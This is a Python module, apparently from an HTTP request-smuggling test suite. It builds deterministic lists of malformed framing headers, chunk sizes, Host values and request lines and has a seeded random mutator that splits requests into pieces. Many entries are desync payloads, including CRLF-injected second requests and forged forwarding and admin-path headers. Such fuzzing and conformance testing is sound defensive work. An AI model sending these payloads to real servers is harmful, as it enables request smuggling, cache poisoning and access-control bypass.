"""What an attacker does to a good request, as data and small functions. Deterministic: a seed gives one list.

The lists are in the spirit of the published desync permutations (THREATS 1.2: T1-T30); each line is our own.
"""

import random
from collections.abc import Callable, Iterator

from attacks.bases import BASES

Mutation = tuple[str, tuple[bytes, ...]]  # what was done to what, and the message in the pieces to send it in

CTLS = [bytes([code]) for code in (*range(0x20), 0x7F)]
ODD = [*CTLS, b" ", b"\t", b":", b",", b";", b"_", b"-", b'"', b"\\", b"/", b"#", b"%00", b"%0d%0a", b"\r\n"]
ODD += [b"\r\n\r\n", b"\x80", b"\x85", b"\xa0", b"\xad", b"\xff", b"\xc4\xb0", b"\xe2\x84\xaa", b"\xc5\xbf", b"0", b"G"]

# -- whole field lines, each put in the place of, before and after the real framing field --------------------

TRANSFER_ENCODINGS = [
    b"Transfer-Encoding" + rest
    for rest in (
        b": chunked", b" : chunked", b"\t: chunked", b":chunked", b":\tchunked", b":  chunked", b": chunked ",
        b": chunked\t", b": \x0bchunked", b": chunked\x0b", b": \x0cchunked", b": chunked\x0c", b": \x00chunked",
        b": chunked\x00", b": \xa0chunked", b": chunked\xa0", b": \x85chunked", b": chunked\x1c", b": \rchunked",
        b": chunked\r", b": \nchunked", b": chunked\n", b":\r\n chunked", b":\r\n\tchunked", b":\n chunked",
        b": chunk\r\n ed", b": chunked\r\n ", b": Chunked", b": CHUNKED", b": chunKed", b": chun\xe2\x84\xaaed",
        b": identity", b": identity, chunked", b": chunked, identity", b": gzip, chunked", b": chunked, gzip",
        b": gzip", b": chunked, chunked", b": ,chunked", b": chunked,", b": , chunked ,", b": chunked;a=b",
        b": chunked; q=1", b': "chunked"', b": 'chunked'", b": chunked chunked", b": xchunked", b": chunkedx",
        b": cow", b": chunk", b": chunked-ish", b": \\chunked", b": %63hunked", b": c\x00hunked", b":", b": ",
        b": null", b": 0", b": true", b": chunked\r\nTransfer-Encoding: chunked",
        b": chunked\r\nTransfer-Encoding: identity", b": identity\r\nTransfer-Encoding: chunked",
        b": chunked\r\nTransfer-Encoding:", b":\r\nTransfer-Encoding: chunked", b"", b" chunked", b"= chunked",
        b": chunked\r\n\r\n", b";: chunked", b"\x00: chunked", b"\r: chunked", b"\n: chunked", b"\x0b: chunked",
        b"\xa0: chunked", b"\xff: chunked", b":: chunked", b": : chunked", b"\r\n: chunked",
    )
]  # fmt: skip
TRANSFER_ENCODINGS += [
    b"transfer-encoding: chunked", b"TRANSFER-ENCODING: chunked", b"tRANSFER-eNCODING: chunked",
    b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked", b"Transfer-Encodin: chunked",
    b"Transfer-\xc4\xb0ncoding: chunked", b"Tran\xc5\xbffer-Encoding: chunked", b"Transfer\x00-Encoding: chunked",
    b"Transfer--Encoding: chunked", b"Transfer.Encoding: chunked", b"X-Transfer-Encoding: chunked",
    b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked", b"\x00Transfer-Encoding: chunked",
    b"\x0bTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked",
    b"X: y\r\n\rTransfer-Encoding: chunked", b"X: y\r\r\nTransfer-Encoding: chunked",
    b"X\r\nTransfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked", b": Transfer-Encoding: chunked", b"TE: chunked", b"TE: trailers, chunked",
    b"Transfer-Encoding: chunked\r\nTE: identity", b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
    b"Content-Encoding: chunked", b"Foo: bar\r\n\r\n\r\nTransfer-Encoding: chunked", b"\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nConnection: close, transfer-encoding", b"Transfer-Encoding\x20\x09: chunked",
    b"(Transfer-Encoding): chunked", b"Transfer-Encoding@: chunked", b"\"Transfer-Encoding\": chunked",
]  # fmt: skip

CONTENT_LENGTHS = [
    b"Content-Length" + rest
    for rest in (
        b": %d", b":%d", b":\t%d", b": %d ", b" : %d", b"\t: %d", b": +%d", b": -%d", b": -0", b": 0x%d", b": 0%d",
        b": 00000000000000000%d", b": %d.0", b": %d,%d", b": %d, %d", b": %d, 0", b": 0, %d", b": %d %d", b": %d;",
        b": %da", b": a%d", b": %de0", b": 1_%d", b": %d_", b": \x0b%d", b": %d\x0b", b": %d\x0c", b": \x00%d",
        b": %d\x00", b": %d\xa0", b": %d\x85", b": \xef\xbc\x95%d", b": \xc2\xb2", b": %d\r", b": %d\n", b":\r\n %d",
        b": %d\r\n ", b":", b": ", b": ,", b": 9223372036854775807", b": 9223372036854775808",
        b": 18446744073709551616",
        b": 4294967296", b": 4294967301", b": 999999999999999999", b": 1000000000000000000", b": " + b"9" * 400,
        b": 0", b": 00", b": 0\r\nContent-Length: %d", b": %d\r\nContent-Length: 0", b": %d\r\nContent-Length: %d",
        b": %d\r\ncontent-length: %d", b": 1\r\nContent-Length: 2\r\nContent-Length: %d", b": %d\r\nContent-Length:",
        b": \"%d\"", b": '%d'", b": (%d)", b": %d#", b": ${%d}", b": 0b101", b": 0o5", b": five", b": NaN", b": inf",
        b": %d\r\nConnection: content-length", b": %d\r\nTransfer-Encoding: identity", b";: %d", b"\x00: %d", b"= %d",
    )
]  # fmt: skip
CONTENT_LENGTHS += [
    b"content-length: %d", b"CONTENT-LENGTH: %d", b"Content_Length: %d", b"Content Length: %d", b"Content-Length-: %d",
    b" Content-Length: %d", b"\tContent-Length: %d", b"X: y\nContent-Length: %d", b"X: y\rContent-Length: %d",
    b"Content-\x00Length: %d", b"Content-Length\xff: %d", b"X-Content-Length: %d", b"Content.Length: %d",
    b"X\r\n Content-Length: %d", b"\r\nContent-Length: %d", b"Content-Lengt\xc4\xa7: %d",
]  # fmt: skip

CHUNK_SIZES = [
    b"5", b"05", b"0000000000000005", b"00000000000000005", b" 5", b"5 ", b"\t5", b"5\t", b"5  ;a", b"5;", b"5;a",
    b"5;a=b",
    b"5; a = b", b"5;a;b;c=d", b'5;a="b"', b'5;a="b;c"', b'5;a="\\""', b'5;a="', b'5;a="b\r\nc"', b'5;a=b"c',
    b"5;=b", b"5;a=",
    b"5;a=b=c", b"5;;a", b"5;a\x00", b"5;a\r", b"5;a\n", b"5;\rGET / HTTP/1.1", b"5;\nGET / HTTP/1.1", b"5;a\x0bb",
    b"5;a\x7f",
    b"5,a", b"5:a", b"5=a", b"5 a", b"5#", b"5//", b"+5", b"-5", b"-0", b"0x5", b"0X5", b"5h", b"5g", b"0o5", b"1_0",
    b"5_",
    b"5.0", b"5e0", b"\x0b5", b"5\x0b", b"\x0c5", b"5\x00", b"\x005", b"5\xa0", b"5\x85", b"\xef\xbc\x95",
    b"\xc2\xb2", b"",
    b" ", b";", b";a", b"FFFFFFFFFFFFFFFF", b"7FFFFFFFFFFFFFFF", b"10000000000000005", b"100000005",
    b"FFFFFFFFFFFFFFFF5",
    b"F" * 400, b"5;" + b"a" * 900, b"5;" + b"a" * 1100, b"5;" + b"a" * 70000, b"5\r", b"5\n", b"\r\n5", b"five",
    b"%35",
    b"4", b"6", b"3", b"0", b"00000", b"0;a=b", b"0 ", b"0x0", b"-", b"+", b"a", b"A", b"5\r\n", b"5\r\n\r\n",
    b"5;a=b\r\r",
]  # fmt: skip

LINE_ENDS = [
    b"\n",
    b"\r",
    b"\r\r\n",
    b"\n\r",
    b"\n\n",
    b"\r\n\r\n",
    b"\r\n ",
    b"\r\n\t",
    b" \r\n",
    b"\t\r\n",
    b"\x00\r\n",
]
LINE_ENDS += [b"\x85", b"\x0b", b"\x0c", b"\xe2\x80\xa8", b"\r\x00\n", b"\r \n", b"", b"\\r\\n", b"%0d%0a", b"\r\n\r"]

CHUNK_ENDS = [b"", b"\r", b"\n", b"\r\r\n", b"\n\r", b"XX", b"\r\n\r\n", b"\r\nX", b" \r\n", b"0\r\n", b"\x00\x00"]

LAST_CHUNKS = [
    b"0\r\n\r\n", b"0\r\n", b"0\n\n", b"0\r\n\n", b"0\n\r\n", b"0\r\n\r", b"00\r\n\r\n", b"0;\r\n\r\n",
    b"0\r\nX: y\r\n\r\n",
    b"0\r\nX: y\n\r\n", b"0\r\nX : y\r\n\r\n", b"0\r\n X: y\r\n\r\n", b"0\r\nX\r\n\r\n", b"0\r\nX: y\r\n z\r\n\r\n",
    b"0\r\n: y\r\n\r\n",
    b"0\r\nContent-Length: 5\r\n\r\n", b"0\r\nTransfer-Encoding: chunked\r\n\r\n", b"0\r\nHost: x\r\n\r\n",
    b"0\r\nX_Y: z\r\n\r\n",
    b"0\r\nAuthorization: Token x\r\n\r\n", b"0\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n", b"0\r\nX: \x00\r\n\r\n",
    b"0\r\nX: a\rb\r\n\r\n",
    b"0\r\n" + b"X: y\r\n" * 3000 + b"\r\n", b"0\r\nX: " + b"y" * 9000 + b"\r\n\r\n", b"0\r\nGET / HTTP/1.1\r\n\r\n",
    b"-0\r\n\r\n", b"\r\n",
]  # fmt: skip

HOSTS = [
    b"Host: " + value
    for value in (
        b"svc.test", b"SVC.TEST", b"svc.test.", b"svc.test:80", b"svc.test:0", b"svc.test:70000", b"svc.test:80:80",
        b"svc.test:",
        b"svc.test:8a", b"svc.test:-1", b"svc.test:\xef\xbc\x98", b"svc_a.test", b"a,b", b"a, b", b"a b", b"a\tb",
        b"a@b", b"u:p@a",
        b"a/b", b"a?b", b"a#b", b"a\\b", b"a%00b", b"%61", b"a\x00b", b"a\x7f", b"", b" ", b".", b"..", b"[::1]",
        b"[::1]:80",
        b"[::1", b"::1", b"[::1%25en0]", b"[zz]", b"\xc3\xa9.test", b"xn--e1a.test", b"http://svc.test",
        b"//svc.test", b"svc.test,",
        b"svc.test\r\nHost: svc.test", b"svc.test\r\nHost: other.test", b"svc.test\r\nhost:", b"svc.test\r\n other",
        b"svc.test\nX: y",
        b"svc.test\rX", b"'svc.test'", b'"svc.test"', b"<svc.test>", b"svc.test;a", b"svc.test=1", b"a" * 300,
        b"a." * 4000,
        b"127.0.0.1", b"0x7f.1", b"*", b"svc.test\r\nX-Forwarded-Host: evil\r\nForwarded: host=evil", b"svc.test \t",
    )
]  # fmt: skip
HOSTS += [
    b"Host : svc.test",
    b" Host: svc.test",
    b"Host\t: svc.test",
    b"Host",
    b"Hos\xc5\xa5: svc.test",
    b"X: y",
    b"H\x00st: a",
]

TARGETS = [
    b"/", b"//evil.test/", b"/..//../", b"/a#b", b"/a b", b"/a\tb", b"/a\x00b", b"/a\x7fb", b"/\xc3\xa9", b"/%00",
    b"/%0d%0aX:%20y",
    b"/a\\b", b"/\\evil", b'/"', b"/<>", b"/{}|^`", b"*", b"a", b"?x", b"http://svc.test/", b"http://svc.test",
    b"http://svc.test?x",
    b"http://other.test/", b"HTTP://SVC.TEST/", b"https://svc.test:444/", b"http://u:p@svc.test/",
    b"http://svc.test:0/", b"http:///a",
    b"http:/svc.test/", b"http:svc.test", b"ftp://svc.test/", b"http://svc.test\\@other.test/", b"http://[::1]/",
    b"svc.test:80",
    b"/a HTTP/1.1 b", b"/ HTTP/1.1\r\nHost: other.test\r\n\r\nGET /x", b"", b" /", b"/ ", b"/" + b"a" * 8200,
    b"/" + b"a" * 40000,
    b"http://svc.test/#f", b"http://svc.test:80:80/", b"http://svc.test,other.test/", b"http://svc.test%2f@other/",
    b"//", b"/;a=b",
]  # fmt: skip

REQUEST_LINES = [
    b"GET / HTTP/1.1", b"GET  / HTTP/1.1", b"GET /  HTTP/1.1", b" GET / HTTP/1.1", b"GET / HTTP/1.1 ",
    b"GET\t/\tHTTP/1.1",
    b"GET\x0b/ HTTP/1.1", b"GET /", b"GET", b"", b"/ HTTP/1.1", b"GET / HTTP/1.2", b"GET / HTTP/1.10",
    b"GET / HTTP/01.1",
    b"GET / HTTP/2.0", b"GET / HTTP/0.9", b"GET / HTTP/1", b"GET / HTTP/1.", b"GET / HTTP/.1", b"GET / http/1.1",
    b"GET / HTTP 1.1",
    b"GET / HTTP/1.1\x00", b"GET / HTTP/\xef\xbc\x91.1", b"GET / HTTPS/1.1", b"GET / XHTTP/1.1",
    b"G\x00T / HTTP/1.1", b"G@T / HTTP/1.1",
    b"get / HTTP/1.1", b"FOO / HTTP/1.1", b"F_O / HTTP/1.1", b"A" * 33 + b" / HTTP/1.1", b"A" * 32 + b" / HTTP/1.1",
    b"CONNECT a:1 HTTP/1.1",
    b"CONNECT / HTTP/1.1", b"TRACE / HTTP/1.1", b"TRACK / HTTP/1.1", b"PRI * HTTP/2.0", b"GET * HTTP/1.1",
    b"OPTIONS * HTTP/1.1",
    b"DELETE / HTTP/1.0", b"HEAD / HTTP/1.0", b"GET / HTTP/1.1\rX", b"GET / HTTP/1.1\nX: y", b"GET\r\n / HTTP/1.1",
    b"\x16\x03\x01\x02",
    b"PROXY TCP4 1.2.3.4 1.2.3.4 1 2\r\nGET / HTTP/1.1", b"GET / HTTP/1.1\r\nGET / HTTP/1.1",
    b"\xef\xbb\xbfGET / HTTP/1.1", b"M-SEARCH * HTTP/1.1",
]  # fmt: skip

FIELDS = [
    b"Expect: 100-continue", b"Expect: 100-Continue", b"Expect: x 100-continue", b"Expect: 100-continue, x",
    b"Expect:", b"Expect: 200-ok",
    b"Expect: 100-continue\r\nExpect: 100-continue", b"Expect:\r\n 100-continue",
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nConnection: Upgrade, HTTP2-Settings",
    b"Upgrade: websocket\r\nConnection: upgrade", b"Upgrade: websocket, h2c\r\nConnection: upgrade",
    b"Upgrade: TLS/1.0\r\nConnection: upgrade",
    b"Connection: close", b"Connection: keep-alive", b"Connection: close, keep-alive",
    b"Connection: x\r\nConnection: close", b"Connection:",
    b"Connection: content-length, transfer-encoding, host", b"Connection: \x00", b"Connection: clo\r\n se",
    b"Proxy-Connection: close", b"Keep-Alive: timeout=0",
    b"X-Request-Id: 1\r\nX-Request-Id: 2", b"X-Forwarded-For: a\r\nX-Forwarded-Host: evil", b"X-Narthex-User: root",
    b"X_Forwarded_For: 1.1.1.1",
    b"Content-Type: a/b\r\nContent-Type: c/d", b"Authorization: Token a\r\nAuthorization: Token b",
    b"Cookie: a=b\r\nCookie: c=d", b"Trailer: content-length",
    b"TE: trailers\r\nConnection: TE", b"TE: chunked, trailers", b"X:" + b" " * 5000 + b"y", b"X: " + b"y" * 33000,
    b"Y" * 257 + b": x", b"Y" * 256 + b": x",
    b"X: y\r\n" * 110 + b"X: z", b": y", b"X", b"=: y", b"X y: z", b"X\xc3\xa9: y", b"X: \xc3\xa9\xff\x80",
    b"X: a\tb", b"X:\t", b"X: y\r\n\t", b"X: \x1b[31m",
    b"Range: bytes=0-0,1-1", b"Content-Encoding: gzip", b"X-HTTP-Method-Override: DELETE", b"X-Original-URL: /admin",
    b"Forwarded: for=1;host=evil",
    b"Max-Forwards: 0", b"Via: 1.1 x", b"Sec-WebSocket-Key: a\r\nSec-WebSocket-Key: b",
    b"Traceparent: 00-x\r\nTraceparent: 00-y", b"User-Agent: \x80",
]  # fmt: skip


def _once(message: bytes, old: bytes, new: bytes) -> bytes:
    return message.replace(old, new, 1)


def listed() -> Iterator[Mutation]:
    """Every line of the lists above at its place."""
    for name, base in BASES.items():
        carrier = b"Transfer-Encoding: chunked" if b"Transfer-Encoding: chunked" in base else None
        for line in TRANSFER_ENCODINGS if carrier or name == "length-carrier" else ():
            if carrier:
                yield f"{name} {line!r}", (_once(base, carrier, line),)
            yield f"{name} + {line!r}", (_once(base, b"\r\n\r\n", b"\r\n" + line + b"\r\n\r\n"),)
            yield f"{name} - {line!r}", (_once(base, b"Host:", line + b"\r\nHost:"),)
            yield f"{name} cl {line!r}", (_once(base, b"Host:", b"Content-Length: 4\r\n" + line + b"\r\nHost:"),)
    for name in ("post", "length-carrier", "get-with-body", "carrier"):
        base = BASES[name]
        length = (
            b"Content-Length: " + base.split(b"Content-Length: ")[1].split(b"\r\n")[0] if name != "carrier" else None
        )
        for shape in CONTENT_LENGTHS:
            line = shape.replace(b"%d", length.split(b" ")[1] if length else b"3")
            if length:
                yield f"{name} {line!r}", (_once(base, length, line),)
            yield f"{name} + {line!r}", (_once(base, b"\r\n\r\n", b"\r\n" + line + b"\r\n\r\n"),)
            yield f"{name} - {line!r}", (_once(base, b"Host:", line + b"\r\nHost:"),)
    for size in CHUNK_SIZES:
        yield f"chunk size {size!r}", (_once(BASES["chunked"], b"\r\n5\r\n", b"\r\n" + size + b"\r\n"),)
        yield f"last size {size!r}", (_once(BASES["carrier"], b"\r\n0\r\n", b"\r\n" + size + b"\r\n"),)
    for end in LINE_ENDS:
        yield f"size end {end!r}", (_once(BASES["chunked"], b"\r\n5\r\n", b"\r\n5" + end),)
        yield f"request line end {end!r}", (_once(BASES["get"], b"1.1\r\n", b"1.1" + end),)
        yield f"line end {end!r}", (_once(BASES["post"], b"test\r\n", b"test" + end),)
        yield f"head end {end!r}", (_once(BASES["post"], b"\r\n\r\n", b"\r\n" + end),)
        yield f"before {end!r}", (end + BASES["get"],)
        yield f"between {end!r}", (BASES["get"] + end + BASES["post"],)
    for end in CHUNK_ENDS:
        yield f"data end {end!r}", (_once(BASES["chunked"], b"hello\r\n", b"hello" + end),)
        yield f"last data end {end!r}", (_once(BASES["carrier"], b"\r\n0\r\n\r\n", end + b"0\r\n\r\n"),)
    for last in LAST_CHUNKS:
        yield f"last {last[:40]!r}", (_once(BASES["carrier"], b"0\r\n\r\nGET /after", last + b"GET /after"),)
    for line in HOSTS:
        yield f"{line[:60]!r}", (_once(BASES["get"], b"Host: svc.test", line),)
        yield f"after a good one: {line[:60]!r}", (BASES["get"] + _once(BASES["get"], b"Host: svc.test", line),)
        yield f"1.0 {line[:60]!r}", (_once(BASES["http-1.0"], b"Host: svc.test", line),)
    for target in TARGETS:
        for method in (b"GET", b"OPTIONS"):
            yield f"{method!r} {target[:60]!r}", (method + b" " + target + b" HTTP/1.1\r\nHost: svc.test\r\n\r\n",)
    for line in REQUEST_LINES:
        yield f"{line!r}", (line + b"\r\nHost: svc.test\r\n\r\n",)
        yield f"in the middle {line!r}", (BASES["post"] + line + b"\r\nHost: svc.test\r\n\r\n" + BASES["get"],)
    for line in FIELDS:
        for name in ("get", "post", "chunked", "http-1.0", "upgrade"):
            yield f"{name} {line[:60]!r}", (_once(BASES[name], b"Host:", line + b"\r\nHost:"),)


def _insert(message: bytes, dice: random.Random) -> bytes:
    at = dice.randrange(len(message) + 1)
    return message[:at] + dice.choice(ODD) + message[at:]


def _replace(message: bytes, dice: random.Random) -> bytes:
    at = dice.randrange(len(message))
    return message[:at] + dice.choice(ODD) + message[at + 1 :]


def _remove(message: bytes, dice: random.Random) -> bytes:
    at = dice.randrange(len(message))
    return message[:at] + message[at + dice.choice((1, 1, 2, 5)) :]


def _double_line(message: bytes, dice: random.Random) -> bytes:
    lines = message.split(b"\r\n")
    at = dice.randrange(len(lines))
    lines.insert(at, dice.choice((lines[at], lines[at].swapcase(), b" " + lines[at], b"\t" + lines[at])))
    return b"\r\n".join(lines)


def _swap_lines(message: bytes, dice: random.Random) -> bytes:
    lines = message.split(b"\r\n")
    one, other = dice.randrange(len(lines)), dice.randrange(len(lines))
    lines[one], lines[other] = lines[other], lines[one]
    return b"\r\n".join(lines)


def _line_end(message: bytes, dice: random.Random) -> bytes:
    lines = message.split(b"\r\n")
    at = dice.randrange(len(lines))
    return b"\r\n".join(lines[: at + 1]) + dice.choice(LINE_ENDS) + b"\r\n".join(lines[at + 1 :])


def _splice_field(message: bytes, dice: random.Random) -> bytes:
    line = dice.choice(dice.choice((TRANSFER_ENCODINGS, CONTENT_LENGTHS, HOSTS, FIELDS))).replace(b"%d", b"5")
    lines = message.split(b"\r\n")
    lines.insert(dice.randrange(1, min(len(lines), 5) + 1), line)
    return b"\r\n".join(lines)


def _case(message: bytes, dice: random.Random) -> bytes:
    at = dice.randrange(len(message))
    return message[:at] + message[at : at + 20].swapcase() + message[at + 20 :]


def _cut(message: bytes, dice: random.Random) -> bytes:
    return message[: dice.randrange(1, len(message) + 1)]


WAYS: list[Callable[[bytes, random.Random], bytes]] = [
    _insert, _insert, _replace, _replace, _remove, _double_line, _swap_lines, _line_end, _splice_field, _case, _cut,
]  # fmt: skip


def thrown(bases: dict[str, bytes], seed: int) -> Iterator[Mutation]:
    """Endlessly: one to three changes at random places, sent in one piece or in several."""
    dice = random.Random(seed)
    names = sorted(bases)
    while True:
        name = dice.choice(names)
        message, ways = bases[name], []
        for _ in range(dice.choice((1, 1, 1, 2, 3))):
            way = dice.choice(WAYS)
            ways.append(way.__name__.strip("_"))
            message = way(message, dice) or b"\x00"
        cuts = sorted(dice.randrange(len(message) + 1) for _ in range(dice.choice((0, 0, 0, 1, 3))))
        pieces = [message[start:end] for start, end in zip([0, *cuts], [*cuts, len(message)], strict=True)]
        yield f"{name}: {' '.join(ways)}", tuple(piece for piece in pieces if piece)
